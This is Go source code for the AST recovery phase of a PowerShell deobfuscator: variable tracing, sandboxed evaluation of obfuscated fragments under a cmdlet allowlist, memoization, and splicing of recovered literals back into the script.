func (s *astState) process(n psast.Node, ctx visitCtx) {
	if s.r.Env.Violated() {
		return
	}
	if v, ok := n.(*psast.VariableExpression); ok {
		s.processVariable(v, ctx)
		return
	}
	if psast.IsRecoverableKind(n.Kind()) && !ctx.assignLHS {
		s.tryRecover(n, ctx)
	}
	if p, ok := n.(*psast.Pipeline); ok && ctx.isStatement {
		s.tryUnwrapPipeline(p, ctx)
	}
}

// processVariable implements lines 8–25 of Algorithm 1 for reads.
func (s *astState) processVariable(v *psast.VariableExpression, ctx visitCtx) {
	if ctx.assignLHS || s.r.Opts.DisableVariableTracing {
		return
	}
	name := canonicalVarName(v.Name)
	if name == "" {
		return
	}
	if ctx.inLoop || ctx.inCond || ctx.inFunc {
		// The value may differ per run; drop it (Algorithm 1, line 10).
		delete(s.vars, name)
		return
	}
	e, ok := s.vars[name]
	if !ok || !scopeVisible(e.scope, ctx.scope) {
		return
	}
	lit, ok := renderLiteral(e.value)
	if !ok {
		return
	}
	s.setRepl(v, lit)
	s.r.Stats.VariablesInlined++
}

// canonicalVarName returns the lower-cased plain variable name, or ""
// for variables that must never be traced ($env:, automatic, special).
func canonicalVarName(name string) string {
	n := strings.ToLower(name)
	for _, prefix := range []string{"global:", "script:", "local:", "private:", "variable:"} {
		n = strings.TrimPrefix(n, prefix)
	}
	if strings.Contains(n, ":") {
		return "" // env: and other drives
	}
	switch n {
	case "_", "$", "?", "^", "args", "input", "this", "true", "false",
		"null", "error", "matches", "pshome", "home", "pwd", "host",
		"executioncontext", "psversiontable", "shellid", "pid", "ofs":
		return ""
	}
	return n
}

// processAssignment implements lines 13–20 of Algorithm 1.
func (s *astState) processAssignment(a *psast.Assignment, ctx visitCtx) {
	if s.r.Opts.DisableVariableTracing || s.r.Env.Violated() {
		return
	}
	v, ok := a.Left.(*psast.VariableExpression)
	if !ok {
		return
	}
	name := canonicalVarName(v.Name)
	if name == "" {
		return
	}
	if ctx.inLoop || ctx.inCond || ctx.inFunc {
		delete(s.vars, name)
		return
	}
	value, ok := s.evaluateStatementValue(a.Right, ctx)
	if !ok {
		delete(s.vars, name)
		return
	}
	if a.Operator != "=" {
		old, exists := s.vars[name]
		if !exists || !scopeVisible(old.scope, ctx.scope) {
			delete(s.vars, name)
			return
		}
		combined, ok := applyCompound(a.Operator, old.value, value)
		if !ok {
			delete(s.vars, name)
			return
		}
		value = combined
	}
	if !isStringOrNumber(value) {
		delete(s.vars, name)
		return
	}
	s.vars[name] = varEntry{value: value, scope: append([]int(nil), ctx.scope...)}
	s.r.Stats.VariablesTraced++
}

// applyCompound folds a compound assignment over traced values.
func applyCompound(op string, old, inc any) (any, bool) {
	switch op {
	case "+=":
		if so, ok := old.(string); ok {
			return so + psinterp.ToString(inc), true
		}
		no, errO := toNum(old)
		ni, errI := toNum(inc)
		if errO && errI {
			return no + ni, true
		}
	case "-=", "*=", "/=", "%=":
		// Rare in obfuscation; give up tracing rather than risk error.
		return nil, false
	}
	return nil, false
}

func toNum(v any) (int64, bool) {
	n, err := psinterp.ToInt(v)
	return n, err == nil
}

// evaluateStatementValue evaluates an assignment RHS if safe, returning
// (value, true) on success.
func (s *astState) evaluateStatementValue(n psast.Node, ctx visitCtx) (any, bool) {
	if n == nil {
		return nil, false
	}
	text := s.textOf(n)
	// Fast path: the RHS was already recovered to a literal.
	if v, ok := s.literalValue(text); ok {
		return v, true
	}
	if !s.isSafePiece(n, ctx) {
		return nil, false
	}
	out, err := s.evalText(text, ctx)
	if err != nil {
		frontend.ClassifyEvalFailure(s.r.Stats, err)
		return nil, false
	}
	value := psinterp.Unwrap(out)
	if value == nil {
		return nil, false
	}
	return value, true
}

// tryRecover evaluates a recoverable node and replaces it in place when
// the result is a string or number (paper §III-B2).
func (s *astState) tryRecover(n psast.Node, ctx visitCtx) {
	text := s.textOf(n)
	if len(text) > s.r.Opts.MaxPieceLen {
		return
	}
	if s.isTrivialPiece(n, text) {
		return
	}
	if !s.isSafePiece(n, ctx) {
		return
	}
	s.r.Stats.PiecesAttempted++
	out, err := s.evalText(text, ctx)
	if err != nil {
		frontend.ClassifyEvalFailure(s.r.Stats, err)
		return
	}
	value := psinterp.Unwrap(out)
	lit, ok := renderLiteral(value)
	if !ok || lit == text {
		return
	}
	if len(lit) > s.r.Opts.MaxPieceLen {
		return
	}
	s.setRepl(n, lit)
	s.r.Stats.PiecesRecovered++
}

// buildPrelude memoizes the safe-function definition prelude. Sorted
// by function name so the snippet text — and therefore both the parse
// cache and the evaluation cache keys — is deterministic regardless of
// map iteration order.
func (s *astState) buildPrelude() {
	if len(s.safeFuncs) == 0 {
		s.prelude = ""
		return
	}
	names := make([]string, 0, len(s.safeFuncs))
	for name := range s.safeFuncs {
		names = append(names, name)
	}
	sort.Strings(names)
	var defs strings.Builder
	for _, name := range names {
		defs.WriteString(s.safeFuncs[name].Extent().Text(s.src))
		defs.WriteByte('\n')
	}
	s.prelude = defs.String()
}

// visibleValue resolves a traced variable as the evaluation preload
// would see it: only when tracing is active for this context and the
// recording scope is visible from the current one.
func (s *astState) visibleValue(name string, ctx visitCtx) (any, bool) {
	if ctx.inFunc || s.r.Opts.DisableVariableTracing {
		return nil, false
	}
	e, ok := s.vars[name]
	if !ok || !scopeVisible(e.scope, ctx.scope) {
		return nil, false
	}
	return e.value, true
}

// valueFP fingerprints a preloaded value for the evaluation-cache key.
// The rendering is injective per type tag for every type the symbol
// table can hold (isStringOrNumber gate), so equal fingerprints imply
// equal values: a fingerprint match can never replay a wrong result.
func valueFP(v any) (string, bool) {
	switch x := v.(type) {
	case string:
		return "s:" + x, true
	case int64:
		return "i:" + strconv.FormatInt(x, 10), true
	case int:
		return "I:" + strconv.Itoa(x), true
	case float64:
		return "f:" + strconv.FormatFloat(x, 'g', -1, 64), true
	case psinterp.Char:
		return "c:" + string(rune(x)), true
	case bool:
		if x {
			return "b:1", true
		}
		return "b:0", true
	case nil:
		return "n:", true
	}
	return "", false
}

// evalText runs a piece in a fresh bounded interpreter preloaded with
// the traced symbol table (and, when the extension is on, the pure
// decoder functions the script defines). The interpreter inherits the
// run's context (deadline / cancelation) and memory budget.
//
// Evaluation is memoized through the run's EvalView (paper Recovery
// phase, §III-B, made incremental): before interpreting, the cache is
// consulted under the key (snippet text, fingerprints of the visible
// bindings a previous pure run read). On a hit the memoized output is
// replayed — deep-copied, so splices can never alias cached state — and
// no interpreter is constructed at all. On a miss, Acquire coalesces
// with any concurrent evaluation of the same snippet (a near-clone
// wave across server requests costs one interpreter run) and this run
// either waits for that leader's published result or becomes the
// leader itself, holding a ticket it must resolve. If the interpreter's
// purity report confirms the run was deterministic and side-effect-free,
// the result is inserted keyed by the exact variables it read. Impure,
// failed or budget-violating runs are never cached — their tickets
// resolve as skips, releasing any coalesced waiters to retry under
// their own envelopes. The piece's parse still comes from the run's
// parse cache, so even uncacheable evaluations skip re-parsing.
func (s *astState) evalText(text string, ctx visitCtx) ([]any, error) {
	if err := s.r.Env.Check(); err != nil {
		return nil, err
	}
	snippet := text
	if s.prelude != "" {
		snippet = s.prelude + text
	}
	eval := s.pc.Eval
	values, ok, ticket := eval.Acquire(s.r.Env.Context(), snippet, func(name string) (string, bool) {
		v, ok := s.visibleValue(name, ctx)
		if !ok {
			return "", false
		}
		return valueFP(v)
	})
	if ok {
		return values, nil
	}
	// Backstop: if the evaluation below panics or returns early, the
	// flight is released (idempotently) so coalesced waiters never hang
	// on — or inherit — this run's failure.
	defer ticket.Abort()
	opts := psinterp.Options{
		MaxSteps:      s.r.Opts.StepBudget,
		StrictVars:    true,
		Blocklist:     s.blocklistForEval(),
		MaxAllocBytes: s.r.Opts.MaxAllocBytes,
	}
	opts.Ctx = s.r.Env.Context()
	in := psinterp.New(opts)
	if !ctx.inFunc && !s.r.Opts.DisableVariableTracing {
		for name, e := range s.vars {
			if scopeVisible(e.scope, ctx.scope) {
				in.SetVar(name, e.value)
			}
		}
	}
	sb, err := viewParse(s.view, snippet)
	if err != nil {
		ticket.Skip()
		return nil, err
	}
	out, err := in.EvalScript(sb)
	if err != nil {
		// Failed runs are never cached: the purity report of an aborted
		// evaluation is incomplete by construction.
		ticket.Skip()
		return out, err
	}
	s.memoizeEval(ticket, ctx, in, out)
	return out, nil
}

// memoizeEval inserts a completed evaluation into the cache when the
// purity report allows it, resolving the run's coalescing ticket and
// attributing the outcome (miss vs skip) to the run's EvalView.
func (s *astState) memoizeEval(ticket *pipeline.EvalTicket, ctx visitCtx, in *psinterp.Interp, out []any) {
	if !ticket.Enabled() {
		return
	}
	p := in.Purity()
	if !p.Pure {
		ticket.Skip()
		return
	}
	bindings := make([]pipeline.Binding, 0, len(p.ReadVars))
	for _, name := range p.ReadVars {
		v, ok := s.visibleValue(name, ctx)
		if !ok {
			// A read variable we cannot fingerprint (should not happen:
			// reads are tracked only for preloaded names, which all come
			// from visibleValue). Refuse to cache rather than risk it.
			ticket.Skip()
			return
		}
		fp, ok := valueFP(v)
		if !ok {
			ticket.Skip()
			return
		}
		bindings = append(bindings, pipeline.Binding{Name: name, FP: fp})
	}
	ticket.Insert(bindings, out)
}

// collectPureFunctions records user functions whose bodies are pure:
// only safe commands, and no free variables beyond their parameters.
// Calls to such functions are themselves recoverable (the FunctionTracing
// extension; the paper leaves this to future work, §V-C).
func (s *astState) collectPureFunctions(root psast.Node) {
	psast.Walk(root, func(n psast.Node) bool {
		fd, ok := n.(*psast.FunctionDefinition)
		if !ok {
			return true
		}
		if s.isPureFunction(fd) {
			s.safeFuncs[strings.ToLower(fd.Name)] = fd
		}
		return true
	}, nil)
}

// isPureFunction checks a function body for purity.
func (s *astState) isPureFunction(fd *psast.FunctionDefinition) bool {
	params := map[string]bool{}
	for _, p := range fd.Params {
		params[strings.ToLower(p.Name)] = true
	}
	if fd.Body != nil && fd.Body.Params != nil {
		for _, p := range fd.Body.Params.Parameters {
			params[strings.ToLower(p.Name)] = true
		}
	}
	pure := true
	var inspect func(node psast.Node, inScriptBlock bool)
	inspect = func(node psast.Node, inScriptBlock bool) {
		if node == nil || !pure {
			return
		}
		switch x := node.(type) {
		case *psast.Command:
			name, ok := s.commandLiteralName(x)
			if !ok || s.r.Blocklist[psinterp.NormalizeCommandName(name)] ||
				!safeCommands[psinterp.NormalizeCommandName(name)] {
				pure = false
				return
			}
		case *psast.VariableExpression:
			lower := strings.ToLower(x.Name)
			if params[lower] {
				break
			}
			switch lower {
			case "_", "args", "input":
				if !inScriptBlock && lower == "_" {
					pure = false
				}
			case "true", "false", "null":
			default:
				if !strings.HasPrefix(lower, "env:") {
					// Assignments create locals; reads of outer state
					// disqualify. A write-before-read analysis would be
					// finer; reject only names never assigned locally.
					if !assignedWithin(fd.Body, lower) {
						pure = false
					}
				}
			}
		case *psast.ScriptBlockExpression:
			if x.Body != nil {
				for _, c := range x.Body.Children() {
					inspect(c, true)
				}
			}
			return
		}
		for _, c := range node.Children() {
			inspect(c, inScriptBlock)
		}
	}
	if fd.Body != nil {
		inspect(fd.Body, false)
	}
	return pure
}

// assignedWithin reports whether a variable name is assigned anywhere in
// the subtree.
func assignedWithin(root psast.Node, lower string) bool {
	found := false
	psast.Walk(root, func(n psast.Node) bool {
		if a, ok := n.(*psast.Assignment); ok {
			if v, isVar := a.Left.(*psast.VariableExpression); isVar &&
				strings.ToLower(v.Name) == lower {
				found = true
				return false
			}
		}
		return !found
	}, nil)
	return found
}

func (s *astState) blocklistForEval() map[string]bool {
	return s.r.Blocklist
}

// isTrivialPiece reports pieces whose recovery cannot simplify anything:
// bare literals, lone variables, or pipelines around them.
func (s *astState) isTrivialPiece(n psast.Node, text string) bool {
	switch x := n.(type) {
	case *psast.Pipeline:
		if len(x.Elements) != 1 {
			return false
		}
		switch e := x.Elements[0].(type) {
		case *psast.CommandExpression:
			switch e.Expression.(type) {
			case *psast.StringConstant, *psast.ConstantExpression,
				*psast.VariableExpression:
				return true
			}
		case *psast.Command:
			// A lone command with a clean bare-word name is already
			// deobfuscated at the pipeline level; its obfuscated
			// arguments are recovered as child nodes. Replacing the
			// command with its output would erase intent (the mistake
			// the paper attributes to Li et al., §IV-C3).
			if _, ok := e.Name.(*psast.StringConstant); ok {
				return true
			}
		}
		return false
	}
	if _, ok := s.literalValue(text); ok {
		return true
	}
	return false
}

// safeCommands are commands that recovery code may execute: pure
// transformations without observable side effects. Everything else
// (plus the blocklist) aborts recovery of the piece, mirroring the
// paper's blocklist design.
var safeCommands = map[string]bool{
	"foreach-object": true, "where-object": true, "sort-object": true,
	"select-object": true, "write-output": true, "out-string": true,
	"measure-object": true, "get-unique": true, "select-string": true,
	"split-path": true, "join-path": true, "get-variable": true,
	"get-command": true, "get-alias": true, "get-item": true,
	"new-object": true, "convertto-securestring": true,
	"convertfrom-securestring": true, "get-location": true,
	"get-culture": true, "get-host": true, "invoke-command": true,
}

// isSafePiece checks that every command in the subtree is a safe pure
// transformation and that every free variable is known, so executing
// the piece can neither cause side effects nor produce wrong results
// from missing context.
func (s *astState) isSafePiece(n psast.Node, ctx visitCtx) bool {
	safe := true
	var inspect func(node psast.Node, inScriptBlock bool)
	inspect = func(node psast.Node, inScriptBlock bool) {
		if node == nil || !safe {
			return
		}
		switch x := node.(type) {
		case *psast.Command:
			name, ok := s.commandLiteralName(x)
			if !ok {
				safe = false
				return
			}
			canonical := psinterp.NormalizeCommandName(name)
			if s.r.Blocklist[canonical] {
				safe = false
				return
			}
			if !safeCommands[canonical] {
				if _, pure := s.safeFuncs[canonical]; !pure {
					safe = false
					return
				}
			}
		case *psast.VariableExpression:
			if !s.variableKnown(x.Name, ctx, inScriptBlock) {
				safe = false
				return
			}
		case *psast.ScriptBlockExpression:
			if x.Body != nil {
				for _, c := range x.Body.Children() {
					inspect(c, true)
				}
			}
			return
		case *psast.Assignment:
			// Local assignments inside the piece are fine; they are
			// scoped to the throwaway interpreter.
		}
		for _, c := range node.Children() {
			inspect(c, inScriptBlock)
		}
	}
	inspect(n, false)
	return safe
}

// commandLiteralName resolves a command's name when it is statically
// known: a bare word, a quoted literal, or an expression already
// recovered to a string literal.
func (s *astState) commandLiteralName(cmd *psast.Command) (string, bool) {
	switch n := cmd.Name.(type) {
	case *psast.StringConstant:
		return n.Value, true
	default:
		text := s.textOf(cmd.Name)
		if v, ok := s.literalValue(text); ok {
			return psinterp.ToString(v), true
		}
		return "", false
	}
}

// variableKnown reports whether a variable read inside a piece will
// resolve during evaluation.
func (s *astState) variableKnown(name string, ctx visitCtx, inScriptBlock bool) bool {
	lower := strings.ToLower(name)
	if strings.HasPrefix(lower, "env:") {
		return true
	}
	switch lower {
	case "_", "args", "input":
		// Bound at runtime inside ForEach-Object-style blocks.
		return inScriptBlock
	case "true", "false", "null", "pshome", "home", "pwd", "shellid",
		"pid", "psversiontable", "executioncontext", "ofs", "error",
		"verbosepreference", "erroractionpreference", "host",
		"psculture", "psuiculture":
		return true
	}
	if s.r.Opts.DisableVariableTracing || ctx.inFunc {
		return false
	}
	key := canonicalVarName(name)
	if key == "" {
		return false
	}
	e, ok := s.vars[key]
	return ok && scopeVisible(e.scope, ctx.scope)
}

// textOf returns the node's current text with all recorded replacements
// spliced in (the paper's reconstruction by post-order splicing,
// §III-B5).
func (s *astState) textOf(n psast.Node) string {
	if r, ok := s.repl[n]; ok {
		return r
	}
	ext := n.Extent()
	// Fast path: no recorded replacement can fall inside this node, so
	// its text is exactly its source slice. This covers every node on
	// unmodified layers and all untouched subtrees on modified ones.
	if len(s.repl) == 0 || ext.End <= s.replMin || ext.Start >= s.replMax {
		return ext.Text(s.src)
	}
	var sb strings.Builder
	sb.Grow(ext.End - ext.Start)
	s.writeTextOf(&sb, n)
	return sb.String()
}

// writeTextOf appends n's reconstructed text to sb. Splitting the
// splice from textOf lets one Builder serve the whole recursion
// instead of allocating a fresh buffer (and copying it upward) at
// every tree level.
func (s *astState) writeTextOf(sb *strings.Builder, n psast.Node) {
	if r, ok := s.repl[n]; ok {
		sb.WriteString(r)
		return
	}
	ext := n.Extent()
	if len(s.repl) == 0 || ext.End <= s.replMin || ext.Start >= s.replMax {
		sb.WriteString(ext.Text(s.src))
		return
	}
	if _, isExpandable := n.(*psast.ExpandableString); isExpandable {
		sb.WriteString(ext.Text(s.src))
		return
	}
	children := n.Children()
	if len(children) == 0 {
		sb.WriteString(ext.Text(s.src))
		return
	}
	sorted := make([]psast.Node, 0, len(children))
	for _, c := range children {
		ce := c.Extent()
		if ce.Start >= ext.Start && ce.End <= ext.End {
			sorted = append(sorted, c)
		}
	}
	// Children arrive in source order almost always; a reflection-free
	// insertion sort costs nothing then and avoids sort.Slice's
	// per-call Swapper allocation.
	for i := 1; i < len(sorted); i++ {
		for j := i; j > 0 && sorted[j].Extent().Start < sorted[j-1].Extent().Start; j-- {
			sorted[j], sorted[j-1] = sorted[j-1], sorted[j]
		}
	}
	last := ext.Start
	for _, c := range sorted {
		ce := c.Extent()
		if ce.Start < last {
			continue // overlapping (defensive)
		}
		sb.WriteString(s.src[last:ce.Start])
		s.writeTextOf(sb, c)
		last = ce.End
	}
	sb.WriteString(s.src[last:ext.End])
}

// renderLiteral renders a recovered value as PowerShell source, only
// for string- and number-typed results (paper §III-B2).
func renderLiteral(v any) (string, bool) {
	switch x := v.(type) {
	case string:
		return QuoteSingle(x), true
	case psinterp.Char:
		return QuoteSingle(string(rune(x))), true
	case int64:
		return strconv.FormatInt(x, 10), true
	case int:
		return strconv.Itoa(x), true
	case float64:
		return psinterp.ToString(x), true
	}
	return "", false
}

func isStringOrNumber(v any) bool {
	switch v.(type) {
	case string, int64, int, float64, psinterp.Char:
		return true
	}
	return false
}

// QuoteSingle renders s as a single-quoted PowerShell string literal.
func QuoteSingle(s string) string {
	return "'" + strings.ReplaceAll(s, "'", "''") + "'"
}

// literalValue parses text through the run's cache and, when it is a
// single string/number literal (possibly parenthesized), returns its
// value. Literal detection runs on every candidate payload and command
// name, so the memoized parse is one of the cache's hottest entries.
func (s *astState) literalValue(text string) (any, bool) {
	trimmed := strings.TrimSpace(text)
	if trimmed == "" {
		return nil, false
	}
	root, err := viewParse(s.view, trimmed)
	if err != nil {
		return nil, false
	}
	return literalFromRoot(root)
}

// literalValue is the cache-free form, kept for callers without a run
// (tests, one-off probes).
func literalValue(text string) (any, bool) {
	trimmed := strings.TrimSpace(text)
	if trimmed == "" {
		return nil, false
	}
	root, err := psparser.Parse(trimmed)
	if err != nil {
		return nil, false
	}
	return literalFromRoot(root)
}

// literalFromRoot extracts the single string/number literal of a parsed
// script, if that is all the script contains.
func literalFromRoot(root *psast.ScriptBlock) (any, bool) {
	if root == nil || root.Body == nil || len(root.Body.Statements) != 1 {
		return nil, false
	}
	pipe, ok := root.Body.Statements[0].(*psast.Pipeline)
	if !ok || len(pipe.Elements) != 1 {
		return nil, false
	}
	ce, ok := pipe.Elements[0].(*psast.CommandExpression)
	if !ok {
		return nil, false
	}
	return constantOf(ce.Expression)
}

func constantOf(n psast.Node) (any, bool) {
	switch x := n.(type) {
	case *psast.StringConstant:
		if x.Bare {
			return nil, false
		}
		return x.Value, true
	case *psast.ConstantExpression:
		return x.Value, true
	case *psast.ParenExpression:
		if p, ok := x.Pipeline.(*psast.Pipeline); ok && len(p.Elements) == 1 {
			if ce, ok := p.Elements[0].(*psast.CommandExpression); ok {
				return constantOf(ce.Expression)
			}
		}
	}
	return nil, false
}
