package psfront

import (
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"

	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

// varEntry is one symbol-table record of the variable-tracing pass
// (paper Algorithm 1): the traced value and the scope path where the
// assignment happened.
type varEntry struct {
	value any
	scope []int
}

// visitCtx carries the traversal context of Algorithm 1.
type visitCtx struct {
	scope       []int
	inLoop      bool
	inCond      bool
	inFunc      bool
	assignLHS   bool
	assignRHS   bool
	isStatement bool
}

type astState struct {
	r   *run
	pc  *pipeline.PassContext
	doc *pipeline.Document
	// view is the run's parse-cache view; literal detection, payload
	// parsing and piece evaluation all draw their parses from it.
	view    *pipeline.View
	src     string
	depth   int
	repl    map[psast.Node]string
	vars    map[string]varEntry
	scopeID int
	// safeFuncs holds pure user-defined functions whose calls may be
	// recovered when the FunctionTracing extension is enabled.
	safeFuncs map[string]*psast.FunctionDefinition
	// prelude is the memoized definition prelude prepended to every
	// evaluated piece when safeFuncs is non-empty. It is invariant
	// within a pass run (safeFuncs is collected once, up front), so it
	// is built once — sorted by function name for determinism — instead
	// of re-concatenated with a fresh strings.Builder on every
	// evaluation. Its text is part of the evaluated snippet and thus of
	// the evaluation-cache key: two layers defining different decoders
	// can never share a cached result.
	prelude string
	// replMin/replMax bound the source extents of all recorded
	// replacements. textOf uses them to return a node's raw source
	// slice — zero reconstruction, zero allocation — whenever no
	// replacement can possibly fall inside the node. On typical layers
	// only a handful of nodes are rewritten, so this prunes almost the
	// entire post-order splice.
	replMin, replMax int
	// workers is the resolved piece-worker count; above 1, tryRecover
	// captures pieceJobs instead of evaluating inline, and the jobs are
	// evaluated in parallel independence rounds (see resolveAllJobs).
	workers int
	// jobs holds the captured recoverable-piece evaluations in capture
	// (post-order) order; pending counts the not-yet-resolved ones.
	jobs    []*pieceJob
	pending int
}

// pieceJob is one deferred recoverable-piece evaluation. The binding
// snapshot freezes the symbol-table state the sequential order would
// have evaluated under, so resolving the job later — or on another
// goroutine — produces byte-identical results: a pure evaluation is a
// function of (snippet text, read bindings) only.
type pieceJob struct {
	n     psast.Node
	ext   psast.Extent
	binds map[string]any
	done  bool
}

// setRepl records a replacement for n and widens the replacement
// extent bounds used by textOf's fast path.
func (s *astState) setRepl(n psast.Node, text string) {
	ext := n.Extent()
	if len(s.repl) == 0 || ext.Start < s.replMin {
		s.replMin = ext.Start
	}
	if ext.End > s.replMax {
		s.replMax = ext.End
	}
	s.repl[n] = text
}

// astPhase runs recovery based on AST over one script layer under the
// run's execution envelope. doc may be the run's main Document or a
// fork holding a nested payload layer; either way tokens, ASTs and
// validity checks come from the shared parse cache.
func (r *run) astPhase(pc *pipeline.PassContext, doc *pipeline.Document, depth int) {
	root, err := docAST(doc)
	if err != nil {
		return
	}
	s := &astState{
		r:         r,
		pc:        pc,
		doc:       doc,
		view:      doc.View(),
		src:       doc.Text(),
		depth:     depth,
		repl:      make(map[psast.Node]string),
		vars:      make(map[string]varEntry),
		safeFuncs: make(map[string]*psast.FunctionDefinition),
	}
	if r.Opts.FunctionTracing {
		s.collectPureFunctions(root)
		s.buildPrelude()
	}
	s.workers = r.pieceWorkers()
	s.visit(root, visitCtx{scope: []int{0}})
	s.resolveAllJobs()
	if len(s.repl) == 0 {
		return
	}
	// Batched splice first: apply all replacements as one extent-sorted
	// edit set, reparsing only the touched statements and publishing the
	// synthesized artifacts. Validation parses per iteration drop from
	// O(replacement batches) toward O(layers); anything the splicer
	// cannot prove safe falls back to the classic full-text rebuild with
	// a whole-document validation parse.
	if !r.Opts.DisableSplice {
		if doc.Splice(s.buildEdits(root)) {
			r.Stats.SplicesApplied++
			return
		}
		r.Stats.SpliceFallbacks++
	}
	out := s.textOf(root)
	doc.SetText(pc.ValidOrRevert(s.view, out, s.src))
}

// pieceWorkers resolves Options.PieceWorkers: zero means one worker per
// available CPU, anything else is taken as given (minimum one).
func (r *run) pieceWorkers() int {
	w := r.Opts.PieceWorkers
	if w <= 0 {
		w = runtime.GOMAXPROCS(0)
	}
	if w < 1 {
		w = 1
	}
	return w
}

// enterScope derives a child scope path.
func (s *astState) enterScope(ctx visitCtx) visitCtx {
	s.scopeID++
	child := ctx
	child.scope = append(append([]int(nil), ctx.scope...), s.scopeID)
	return child
}

// scopeVisible reports whether a variable recorded at `recorded` is
// visible from `current` (recorded path is a prefix of the current
// path).
func scopeVisible(recorded, current []int) bool {
	if len(recorded) > len(current) {
		return false
	}
	for i, id := range recorded {
		if current[i] != id {
			return false
		}
	}
	return true
}

// visit performs the post-order traversal of Algorithm 1: children
// first (with scope/loop/conditional context updates), then node
// processing.
func (s *astState) visit(n psast.Node, ctx visitCtx) {
	if n == nil {
		return
	}
	switch x := n.(type) {
	case *psast.ScriptBlock:
		inner := ctx
		if x.Params != nil {
			s.visit(x.Params, inner)
		}
		s.visit(x.Body, inner)
	case *psast.NamedBlock:
		inner := s.enterScope(ctx)
		for _, st := range x.Statements {
			stCtx := inner
			stCtx.isStatement = true
			s.visit(st, stCtx)
		}
	case *psast.StatementBlock:
		inner := s.enterScope(ctx)
		for _, st := range x.Statements {
			stCtx := inner
			stCtx.isStatement = true
			s.visit(st, stCtx)
		}
	case *psast.If:
		inner := s.enterScope(ctx)
		for _, clause := range x.Clauses {
			s.visit(clause.Cond, inner)
			body := inner
			body.inCond = true
			s.visit(clause.Body, body)
		}
		if x.Else != nil {
			body := inner
			body.inCond = true
			s.visit(x.Else, body)
		}
	case *psast.While:
		inner := s.enterScope(ctx)
		loop := inner
		loop.inLoop = true
		s.visit(x.Cond, loop)
		s.visit(x.Body, loop)
	case *psast.DoLoop:
		inner := s.enterScope(ctx)
		loop := inner
		loop.inLoop = true
		s.visit(x.Body, loop)
		s.visit(x.Cond, loop)
	case *psast.For:
		inner := s.enterScope(ctx)
		loop := inner
		loop.inLoop = true
		s.visit(x.Init, loop)
		s.visit(x.Cond, loop)
		s.visit(x.Iter, loop)
		s.visit(x.Body, loop)
	case *psast.ForEach:
		inner := s.enterScope(ctx)
		loop := inner
		loop.inLoop = true
		lhs := loop
		lhs.assignLHS = true
		s.visit(x.Variable, lhs)
		s.visit(x.Collection, inner)
		s.visit(x.Body, loop)
	case *psast.Switch:
		inner := s.enterScope(ctx)
		s.visit(x.Cond, inner)
		body := inner
		body.inCond = true
		for _, c := range x.Cases {
			s.visit(c.Pattern, body)
			s.visit(c.Body, body)
		}
		if x.Default != nil {
			s.visit(x.Default, body)
		}
	case *psast.FunctionDefinition:
		inner := s.enterScope(ctx)
		inner.inFunc = true
		for _, p := range x.Params {
			s.visit(p, inner)
		}
		s.visit(x.Body, inner)
	case *psast.Try:
		inner := s.enterScope(ctx)
		body := inner
		body.inCond = true
		s.visit(x.Body, body)
		for _, c := range x.Catches {
			s.visit(c, body)
		}
		if x.Finally != nil {
			s.visit(x.Finally, body)
		}
	case *psast.Assignment:
		lhs := ctx
		lhs.assignLHS = true
		lhs.isStatement = false
		s.visit(x.Left, lhs)
		rhs := ctx
		rhs.isStatement = true
		rhs.assignRHS = true
		s.visit(x.Right, rhs)
		s.processAssignment(x, ctx)
		return
	case *psast.ExpandableString:
		// Parts are not spliced textually (quoting differs inside
		// strings); the whole string is recovered via its parent
		// recoverable node instead.
		return
	default:
		childCtx := ctx
		childCtx.isStatement = false
		childCtx.assignLHS = false
		// A pipeline that is itself a statement passes statement-ness to
		// unwrapping; its children are expressions.
		for _, c := range n.Children() {
			s.visit(c, childCtx)
		}
	}
	s.process(n, ctx)
}

// process applies Algorithm 1's per-node actions after the children are
// done: variable inlining, recoverable-piece recovery and multi-layer
// unwrapping. Once the envelope is violated all remaining per-node work
// is skipped, so the traversal winds down in O(nodes) instead of the
// O(nodes x subtree) cost of safety analysis and recovery.
func (s *astState) process(n psast.Node, ctx visitCtx) {
	if s.r.Env.Violated() {
		return
	}
	if v, ok := n.(*psast.VariableExpression); ok {
		s.processVariable(v, ctx)
		return
	}
	if psast.IsRecoverableKind(n.Kind()) && !ctx.assignLHS {
		s.tryRecover(n, ctx)
	}
	if p, ok := n.(*psast.Pipeline); ok && ctx.isStatement {
		s.tryUnwrapPipeline(p, ctx)
	}
}

// processVariable implements lines 8–25 of Algorithm 1 for reads.
func (s *astState) processVariable(v *psast.VariableExpression, ctx visitCtx) {
	if ctx.assignLHS || s.r.Opts.DisableVariableTracing {
		return
	}
	name := canonicalVarName(v.Name)
	if name == "" {
		return
	}
	if ctx.inLoop || ctx.inCond || ctx.inFunc {
		// The value may differ per run; drop it (Algorithm 1, line 10).
		delete(s.vars, name)
		return
	}
	e, ok := s.vars[name]
	if !ok || !scopeVisible(e.scope, ctx.scope) {
		return
	}
	lit, ok := renderLiteral(e.value)
	if !ok {
		return
	}
	s.setRepl(v, lit)
	s.r.Stats.VariablesInlined++
}

// canonicalVarName returns the lower-cased plain variable name, or ""
// for variables that must never be traced ($env:, automatic, special).
func canonicalVarName(name string) string {
	n := strings.ToLower(name)
	for _, prefix := range []string{"global:", "script:", "local:", "private:", "variable:"} {
		n = strings.TrimPrefix(n, prefix)
	}
	if strings.Contains(n, ":") {
		return "" // env: and other drives
	}
	switch n {
	case "_", "$", "?", "^", "args", "input", "this", "true", "false",
		"null", "error", "matches", "pshome", "home", "pwd", "host",
		"executioncontext", "psversiontable", "shellid", "pid", "ofs":
		return ""
	}
	return n
}

// processAssignment implements lines 13–20 of Algorithm 1.
func (s *astState) processAssignment(a *psast.Assignment, ctx visitCtx) {
	if s.r.Opts.DisableVariableTracing || s.r.Env.Violated() {
		return
	}
	v, ok := a.Left.(*psast.VariableExpression)
	if !ok {
		return
	}
	name := canonicalVarName(v.Name)
	if name == "" {
		return
	}
	if ctx.inLoop || ctx.inCond || ctx.inFunc {
		delete(s.vars, name)
		return
	}
	value, ok := s.evaluateStatementValue(a.Right, ctx)
	if !ok {
		delete(s.vars, name)
		return
	}
	if a.Operator != "=" {
		old, exists := s.vars[name]
		if !exists || !scopeVisible(old.scope, ctx.scope) {
			delete(s.vars, name)
			return
		}
		combined, ok := applyCompound(a.Operator, old.value, value)
		if !ok {
			delete(s.vars, name)
			return
		}
		value = combined
	}
	if !isStringOrNumber(value) {
